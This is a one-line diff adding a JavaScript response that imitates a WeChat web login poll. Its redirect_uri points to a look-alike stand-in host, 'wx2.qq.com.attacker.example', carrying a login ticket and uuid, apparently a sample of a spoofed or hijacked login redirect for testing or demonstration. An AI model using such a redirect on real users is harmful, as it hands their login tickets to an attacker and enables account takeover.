@@ -1,0 +1,1 @@
+window.code=200;window.redirect_uri="https://wx2.qq.com.attacker.example/cgi-bin/mmwebwx-bin/webwxnewloginpage?ticket=X@qrticket_0&uuid=Qb7xN1e2Mw==&lang=zh_CN&scan=1764000000";
